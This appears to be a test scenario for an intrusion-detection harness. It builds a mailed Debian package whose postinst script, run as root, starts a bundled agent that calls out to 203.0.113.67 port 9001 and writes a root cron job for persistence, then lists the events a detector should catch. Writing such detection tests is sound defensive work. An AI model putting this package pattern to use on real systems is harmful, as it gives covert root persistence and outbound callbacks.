# A package by mail: its maintainer script runs as root and stays.
title="Mailed package, its maintainer script leaves a system crontab and starts a program that calls out"
what="ops takes fleet-agent_1_all.deb out of a message in /tmp and installs it with sudo dpkg -i. Its postinst starts the packaged agent, which connects to 203.0.113.67 port 9001, and writes /etc/cron.d/fleet."
host=ws3.example.org user=ops daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  echo 'ops ALL=(root) NOPASSWD: /usr/bin/dpkg' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  private_copy /var/lib/dpkg
  local package="$base/out/fleet"
  mkdir -p "$package/DEBIAN" "$package/opt/fleet"
  printf '#!/usr/bin/python3\nimport socket\nwith socket.create_connection(("203.0.113.67", 9001)) as s:\n    s.sendall(b"up")\n' > "$package/opt/fleet/agentd"; chmod 755 "$package/opt/fleet/agentd"
  printf 'Package: fleet-agent\nVersion: 1\nArchitecture: all\nMaintainer: Fleet desk <desk@example.net>\nDescription: fleet agent\n' > "$package/DEBIAN/control"
  printf '#!/bin/sh\nsetsid /opt/fleet/agentd >/dev/null 2>&1 &\necho "*/5 * * * * root /opt/fleet/agentd" > /etc/cron.d/fleet\nexit 0\n' > "$package/DEBIAN/postinst"; chmod 755 "$package/DEBIAN/postinst"
  dpkg-deb --root-owner-group -b "$package" "$base/out/fleet-agent_1_all.deb" >/dev/null
}
act() {
  small_talk 2
  mail_in --from it-desk@example.net --to ops@example.org --subject "Agent for all machines" --attach "$base/out/fleet-agent_1_all.deb:application/vnd.debian.binary-package"
  wait_log 'from=<it-desk@example.net>'; wait_mail ops 1
  ssh_as ops <<'L'
cp $(grep -l 'Agent for all' Maildir/new/*) /tmp/m; cd /tmp
munpack m
%sleep 2
sudo dpkg -i fleet-agent_1_all.deb
%sleep 3
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'the message is delivered'
  file_step part 'munpack (openat|open):write CREATE .*fleet-agent_1_all.deb' 'the package is taken out'
  exec_step install 'dpkg -i fleet-agent_1_all.deb' 'it is installed'
  exec_step postinst 'fleet-agent.postinst configure' 'its maintainer script runs'
  exec_step execute '/opt/fleet/agentd' 'and starts what it brought'
  net_step beacon '203.0.113.67:9001' 'which calls out'
}
